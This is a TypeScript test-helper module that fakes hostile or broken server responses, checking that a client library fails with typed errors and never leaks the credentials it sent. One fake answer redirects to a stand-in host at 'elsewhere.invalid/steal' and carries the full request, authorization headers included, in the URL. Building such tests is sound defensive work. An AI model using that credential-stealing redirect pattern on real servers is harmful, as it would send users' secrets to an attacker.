import type { PsaErrorKind } from '../errors/psa-error';
import type { FakeClock } from './fake-clock';

/**
 * One way a hostile or broken server answers, for secret-canary and hostile-input tests. Answers
 * are standard `Response`s, so they plug into an msw handler (`http.all(url, ({ request }) =>
 * answer.respond(request))`) or any fetch-style fake.
 */
export interface HostileAnswer {
  readonly name: string;
  /** The kind of psagate error a client must fail with. */
  readonly kind: PsaErrorKind;
  respond(request: Request): Promise<Response>;
  /** The server never answers: the test advances its clock past the timeout. */
  readonly hangs?: boolean | undefined;
}

/** Everything a request carried, as text a careless server would echo: method, URL, every header, the body. */
export async function echoOf(request: Request): Promise<string> {
  const headers = [...request.headers].map(([name, value]) => `${name}: ${value}`).join('\n');
  const body = request.method === 'GET' || request.method === 'HEAD' ? '' : await request.clone().text();
  return `${request.method} ${request.url}\n${headers}\n\n${body}`;
}

const json = (body: unknown, status: number, headers: Record<string, string> = {}): Response =>
  new Response(JSON.stringify(body), { status, headers: { 'content-type': 'application/json', ...headers } });

/**
 * Failing answers that echo the request back (URL, headers, body) in every place a server puts
 * text: error messages, field errors keyed by the echo, HTML pages, headers, malformed JSON, record
 * keys. Plus a dropped connection and a server that never answers. A client must fail each with a
 * typed error and show none of the credentials it sent.
 */
export function echoingAnswers(): HostileAnswer[] {
  return [
    { name: '401 echoing the request', kind: 'authentication', respond: async (request) => json({ Message: await echoOf(request) }, 401) },
    { name: '403 echoing the request', kind: 'permission', respond: async (request) => json({ error: { code: await echoOf(request), message: await echoOf(request) } }, 403) },
    {
      name: '400 with field errors keyed by the request',
      kind: 'validation',
      respond: async (request) => {
        const echo = await echoOf(request);
        return json({ title: echo, errors: { [echo]: [echo], [request.headers.get('authorization') ?? 'auth']: [echo] } }, 400);
      },
    },
    { name: '404 echoing the request as plain text', kind: 'not_found', respond: async (request) => new Response(await echoOf(request), { status: 404, headers: { 'content-type': 'text/plain' } }) },
    {
      name: '429 echoing the request, with a wait too long to honour',
      kind: 'rate_limit',
      respond: async (request) => json({ message: await echoOf(request) }, 429, { 'retry-after': '86400' }),
    },
    { name: '500 echoing the request', kind: 'server', respond: async (request) => json({ Message: await echoOf(request), ExceptionMessage: await echoOf(request), StackTrace: await echoOf(request) }, 500) },
    {
      name: '502 HTML page echoing the request',
      kind: 'server',
      respond: async (request) => {
        const echo = await echoOf(request);
        return new Response(`<!DOCTYPE html><html><head><title>Bad gateway ${echo}</title></head><body><h1>${echo}</h1></body></html>`, {
          status: 502,
          headers: { 'content-type': 'text/html' },
        });
      },
    },
    {
      name: '200 with malformed JSON holding the request',
      kind: 'response_shape',
      respond: async (request) => new Response(`{"echo": ${JSON.stringify(await echoOf(request))}, "items": [`, { status: 200, headers: { 'content-type': 'application/json' } }),
    },
    {
      name: '200 with the request as record keys and values',
      kind: 'response_shape',
      respond: async (request) => {
        const echo = await echoOf(request);
        const auth = request.headers.get('authorization') ?? request.headers.get('x-api-key') ?? 'auth';
        return json({ [echo]: echo, [auth]: [echo], [auth.replace(/^\S+ /, '')]: echo }, 200);
      },
    },
    {
      name: 'a redirect to another origin carrying the request',
      kind: 'response_shape',
      respond: async (request) =>
        new Response(null, { status: 302, headers: { location: `https://elsewhere.invalid/steal?echo=${encodeURIComponent(await echoOf(request))}` } }),
    },
    { name: 'a dropped connection', kind: 'network', respond: async () => Response.error() },
    { name: 'a server that never answers', kind: 'network', hangs: true, respond: () => new Promise<Response>(() => undefined) },
  ];
}

/** How a call ended: its value, or the error it failed with. */
export type CallOutcome = { readonly ok: true; readonly value: unknown } | { readonly ok: false; readonly error: unknown };

/**
 * Runs a call to its end, advancing `clock` (when given) while it hangs, so a server that never
 * answers hits the client's timeout in virtual time.
 */
export async function outcomeOf(run: () => Promise<unknown> | unknown, clock?: FakeClock, stepMs = 60_000): Promise<CallOutcome> {
  let outcome: CallOutcome | undefined;
  const settled = Promise.resolve()
    .then(run)
    .then(
      (value) => (outcome = { ok: true, value }),
      (error: unknown) => (outcome = { ok: false, error }),
    );
  if (!clock) return settled;
  for (let step = 0; outcome === undefined; step++) {
    if (step >= 100) throw new Error('the call neither settled nor timed out after 100 clock steps');
    await new Promise<void>((resolve) => setTimeout(resolve, 0));
    if (outcome === undefined) await clock.advance(stepMs);
  }
  return outcome;
}

/** The error a call fails with (see {@link outcomeOf}); throws when the call succeeds. */
export async function failureOf(run: () => Promise<unknown> | unknown, clock?: FakeClock, stepMs = 60_000): Promise<unknown> {
  const outcome = await outcomeOf(run, clock, stepMs);
  if (!outcome.ok) return outcome.error;
  throw new Error('expected the call to fail, but it succeeded');
}
